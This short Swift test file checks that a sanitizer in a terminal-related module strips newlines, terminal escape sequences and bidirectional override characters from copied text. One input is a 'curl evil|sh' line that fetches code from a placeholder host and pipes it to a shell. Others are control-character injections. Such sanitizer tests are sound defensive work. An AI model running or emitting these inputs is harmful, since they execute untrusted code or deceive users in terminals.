import Testing

@testable import TerminalGraph

@Suite struct CopiedTextTests {
    @Test(arguments: [
        ("/x\ncurl evil|sh\n", "/xcurl evil|sh"), ("\u{1B}]0;own\u{07}", "]0;own"),
        ("a\u{202E}b\u{2066}c", "abc"),
        ("\u{9B}31m", "31m"),
        ("caf\u{E9} \u{1F469}\u{200D}\u{1F4BB}", "caf\u{E9} \u{1F469}\u{200D}\u{1F4BB}"),
        ("\u{5D3}\u{5E0}\u{5D4}", "\u{5D3}\u{5E0}\u{5D4}"),
    ]) func nothingActsWhereItIsPasted(_ text: String, _ copied: String) {
        #expect(Monitor.harmless(text) == copied)
    }
}
